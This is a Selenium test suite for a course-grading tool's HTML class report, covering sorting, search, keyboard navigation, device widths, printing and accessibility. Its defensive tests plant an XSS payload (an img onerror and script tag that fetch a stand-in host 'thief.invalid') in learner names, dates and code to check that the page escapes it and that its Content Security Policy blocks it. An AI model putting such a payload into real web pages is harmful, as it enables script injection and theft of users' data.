"""The class report in a real browser: what an instructor sees, by keyboard, on a phone, on paper.

With `AXE_CORE=…/axe.min.js`, from `npm pack axe-core`, its accessibility is checked as well.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("selenium", reason="selenium is not installed; it comes with the extra dev")

from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select

from grader.reports.lateness import Deadlines
from grader.reports.page import ClassReport, Trouble
from tests.grader.nbgrader.browser import Chromium, needs_axe, needs_chromium
from tests.grader.reports.made import CATALOGUE, NAMES, result, submission, todo, verdict

pytestmark = needs_chromium
THIEF = "thief.invalid"
STEAL = f"document.title='stolen';fetch('http://{THIEF}/')"
HOSTILE = f'<img src="http://{THIEF}/" onerror="{STEAL}"></script><script>{STEAL}</script>\u202ex'
SHOWN_HOSTILE = HOSTILE.replace("\u202e", "?")
CODE = '''import numpy as np

TABLE = """
def a(x): not this one
"""


@np.vectorize
def a(x, y=(
1)):
    """Return twice x."""
    if x > 1:  # {}
        return "two"
    return x * x


def b(x):
    return 2 * x
'''
CLASS_SIZE = 60


def class_results() -> Iterator[tuple[object, object]]:
    """Yield results, each with what was handed in."""
    for i in range(CLASS_SIZE):
        learner = f"learner{i:02}"
        mine = submission(learner, CODE.format(i))
        wrong = {name: verdict(name, "0011") for name in NAMES[: i % 5]}
        yield result(learner, wrong, submission=mine), mine
    mine = submission("mallory", CODE.format(HOSTILE))
    hostile = verdict("a", "0110", why=HOSTILE, says=HOSTILE, misconception=HOSTILE)
    squared = verdict("a", "0110", misconception="You squared.")
    for learner in ("yan", "yin"):
        yield result(learner, {"a": squared}), submission(learner, CODE.format(HOSTILE))
    yield result(HOSTILE, {"a": hostile}, submission=mine, submitted_at=HOSTILE), mine
    nothing = [todo(name) for name in NAMES]
    yield result("zoe", nothing, week="week2", submitted_at="2026-02-01 23:00 UTC"), None


class Page:
    """The report, opened anew for each test."""

    def __init__(self, chromium: Chromium, path: Path) -> None:
        self.chromium = chromium
        self.driver = chromium.driver
        self.address = path.as_uri()

    def open(self) -> None:
        """Open the report as an instructor does."""
        self.chromium.open(self.address)
        self.chromium.find("#heat tbody tr")

    def names(self) -> list[str]:
        """Return the learners whose rows are shown."""
        cells = self.driver.find_elements(By.CSS_SELECTOR, "#heat tbody th")
        return [cell.text for cell in cells]

    def sort(self, title: str, table: str = "#heat") -> None:
        """Press the head of a column."""
        self.chromium.find(f"{table} thead button", title).click()

    def open_learner(self, name: str) -> str:
        """Search for a learner, open it, and return what is shown."""
        search = self.chromium.find("#heat input")
        search.clear()
        search.send_keys(name)
        self.chromium.find("#heat tbody button", name).click()
        return self.details()

    def details(self) -> str:
        """Return what the opened learner's details say."""
        self.chromium.find("#learner-body h3")
        return self.chromium.find("#learner").text

    def colours(self) -> tuple[str, str]:
        """Return the colours of page and text."""
        body = self.driver.find_element(By.TAG_NAME, "body")
        return body.value_of_css_property("background-color"), body.value_of_css_property("color")

    def emulate(self, command: str, **values: object) -> None:
        """Be another device."""
        self.chromium.emulate(command, **values)


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """Write the report and start the browser."""
    made = list(class_results())
    at_hand = {(graded.learner, graded.week): mine for graded, mine in made}
    deadlines = Deadlines.parse(["week2=2026-01-31T22:00Z"], 10, CATALOGUE)
    report = ClassReport(CATALOGUE, lambda learner, week: at_hand[learner, week], deadlines)
    for _ in report.reading(graded for graded, _ in made):
        pass
    folder = tmp_path_factory.mktemp("report")
    path = report.write(folder, Trouble((HOSTILE,), (HOSTILE,)))
    chromium = Chromium(tmp_path_factory.mktemp("chromium"))
    yield Page(chromium, path)
    chromium.driver.quit()


@pytest.fixture
def page(opened: Page) -> Iterator[Page]:
    """Open the report; in the end nothing must have failed, run or been asked for."""
    opened.open()
    yield opened
    assert opened.chromium.errors() == []
    assert opened.chromium.hosts() == set()
    assert opened.driver.title == "Class report"
    assert opened.driver.find_elements(By.TAG_NAME, "img") == []


class TestReading:
    def test_the_class_at_a_glance(self, page):
        header = page.chromium.find("header").text
        assert "64 learners, 64 graded submissions: 63 in week1, 1 in week2." in header
        assert "never started: nothing is written in week2" in page.chromium.find("#needs").text
        assert SHOWN_HOSTILE in page.chromium.find("#notices").text
        bars = page.chromium.find("#weeks .stack")
        assert bars.get_attribute("aria-label") == "done 76 %, partly right 24 %"
        assert "8 exercises and 63 learners" in page.chromium.find("#alpha").text

    def test_late_work_and_the_rule(self, page):
        late = page.chromium.find("#late-part").text
        assert "Due: week2 2026-01-31 22:00 UTC. Each day begun" in late
        assert "zoe week2 2026-02-01 23:00 UTC 1 day 1 h 0 0" in late

    def test_what_the_numbers_mean_is_told_on_demand(self, page):
        notes = page.chromium.find("#tests .notes")
        assert "point-biserial" not in notes.text
        notes.find_element(By.TAG_NAME, "summary").click()
        assert "point-biserial" in notes.text

    def test_tests_with_remarks_come_first(self, page):
        first = page.chromium.find("#test-table tbody tr").text
        assert "always agrees with test_second" in first
        assert "test_first" in first

    def test_misconceptions_with_examples(self, page):
        common, hostile = page.chromium.find_all("#misconception-table tbody tr", 2)
        assert common.text == "2 a\nweek1\nYou squared.\n1 example"
        common.find_element(By.TAG_NAME, "summary").click()
        assert f"# {SHOWN_HOSTILE}" in common.text
        # What holds words of its author's name is no example.
        assert hostile.text == f"1 a\nweek1\n{SHOWN_HOSTILE}"


class TestFinding:
    def test_sorts_both_ways(self, page):
        assert page.names()[:2] == ["learner00", "learner01"]
        page.sort("Points")
        head = page.chromium.find("#heat thead th[aria-sort]")
        assert head.get_attribute("aria-sort") == "descending"
        assert page.names()[0] == "learner00"
        page.sort("Points")
        assert page.names()[0] == "zoe"
        page.sort("Learner")
        page.sort("Learner")
        assert page.names()[0] == "zoe"

    def test_searches(self, page):
        page.chromium.find("#heat input").send_keys("ER4")
        assert page.names() == [f"learner4{i}" for i in range(10)]
        assert page.chromium.find("#heat [role=status]").text == "10 of 64"

    def test_turns_pages(self, page):
        assert len(page.names()) == 50
        page.chromium.find("#heat .pager button", "Further rows").click()
        assert page.names()[-1] == "zoe"
        assert page.driver.switch_to.active_element.text == "Earlier rows"

    def test_filters_by_week_status_and_misconception(self, page):
        week = Select(page.chromium.find("#week"))
        week.select_by_value("week2")
        assert page.names() == ["zoe"]
        assert len(page.chromium.find_all("#heat thead th.exercise", 8)) == 8
        week.select_by_value("week1")
        status, misconception = page.chromium.find_all("#heat .tools select", 2)
        Select(status).select_by_visible_text("partly right")
        assert len(page.names()) == 50
        assert "learner05" not in page.names()
        Select(misconception).select_by_index(2)
        assert page.names() == [SHOWN_HOSTILE]


class TestLearner:
    def test_shows_verdict_requirement_and_code(self, page):
        text = page.open_learner("learner03")
        assert "a: partly right, 1 of 2 points" in text
        assert "Passes 2 of 4 hidden tests; not these:\nIt does what it must. (2 cases)" in text
        code = page.chromium.find("#learner pre").text
        assert code == (
            '@np.vectorize\ndef a(x, y=(\n1)):\n    if x > 1:  # 3\n        return "two"\n'
            "    return x * x"
        )
        assert "toys.py, from line 8, without docstring" in text
        keyword = page.chromium.find("#learner pre .k", "def")
        assert keyword.value_of_css_property("color") != code
        page.chromium.find("#learner summary", "All of week1/toys.py").click()
        whole = page.chromium.find("#learner pre", "not this one")
        assert whole.text == CODE.format(3).strip()

    def test_hostile_text_is_shown_as_it_is(self, page):
        text = page.open_learner("onerror")
        assert text.startswith(SHOWN_HOSTILE)
        assert f"Misconception: {SHOWN_HOSTILE}" in text
        assert f"Handed in {SHOWN_HOSTILE}" in text
        assert f"# {SHOWN_HOSTILE}" in page.chromium.find("#learner pre").text

    def test_the_next_one_in_the_order_shown(self, page):
        page.sort("Learner")
        page.sort("Learner")
        page.chromium.find("#heat tbody button", "zoe").click()
        assert "To do: a, b, c" in page.details()
        assert not page.chromium.find("#previous").is_enabled()
        page.chromium.find("#next").click()
        assert page.chromium.find("#learner-name").text == "yin"

    def test_by_keyboard_alone(self, page):
        keys = page.driver.switch_to.active_element
        keys.send_keys(Keys.TAB)
        for _ in range(60):
            here = page.driver.switch_to.active_element
            if here.get_attribute("data-learner") is not None:
                break
            here.send_keys(Keys.TAB)
        assert here.text == "zoe"
        assert here.value_of_css_property("outline-style") == "solid"
        here.send_keys(Keys.ENTER)
        assert "To do: a, b, c" in page.details()
        page.driver.switch_to.active_element.send_keys(Keys.ESCAPE)
        page.chromium.wait(
            lambda: not page.driver.find_element(By.ID, "learner").is_displayed(), "closed dialog"
        )
        assert page.driver.switch_to.active_element == here


class TestDevices:
    def test_dark_and_light(self, page):
        found = {}
        for scheme in ("light", "dark"):
            page.emulate(
                "setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}]
            )
            found[scheme] = page.colours()
        page.emulate("setEmulatedMedia", features=[])
        assert found["light"] == ("rgba(255, 255, 255, 1)", "rgba(31, 35, 40, 1)")
        assert found["dark"] == ("rgba(20, 23, 27, 1)", "rgba(228, 231, 235, 1)")

    @pytest.mark.parametrize("width", [360, 820, 1400])
    def test_no_width_is_too_small(self, page, width):
        with page.chromium.device(width):
            assert page.chromium.widths() == [width, width]
            page.open_learner("learner03")
            assert page.chromium.widths() == [width, width]

    def test_prints_all_rows_or_one_learner(self, page):
        page.driver.execute_script(
            "addEventListener('beforeprint', () => {"
            "  window.rows = document.querySelectorAll('#heat tbody tr').length;"
            "})"
        )
        whole = page.chromium.printed()
        assert page.driver.execute_script("return window.rows") == 64
        assert len(page.names()) == 50
        page.open_learner("learner03")
        one = page.chromium.printed()
        assert whole.startswith(b"%PDF-")
        assert one.startswith(b"%PDF-")
        assert len(one) < len(whole)

    @needs_axe
    def test_axe_finds_nothing(self, page):
        assert page.chromium.violations() == []
        page.open_learner("learner03")
        assert page.chromium.violations() == []


class TestPolicy:
    """What the page would forbid if something got into it after all."""

    def test_no_script_runs_and_nothing_is_asked_for(self, opened):
        opened.open()
        opened.driver.execute_script(
            "const evil = document.createElement('div'); document.body.append(evil);"
            "evil.innerHTML = arguments[0];"
            "const script = document.createElement('script');"
            "script.textContent = 'window.ran = true'; document.body.append(script);"
            f"return fetch('http://{THIEF}/').catch(() => null)",
            HOSTILE,
        )
        opened.chromium.wait(
            lambda: opened.driver.find_elements(By.CSS_SELECTOR, "img"), "image in the page"
        )
        assert opened.driver.execute_script("return window.ran === undefined")
        assert opened.driver.title == "Class report"
        blocked = json.dumps(opened.chromium.errors())
        assert blocked.count("Content Security Policy") >= 3
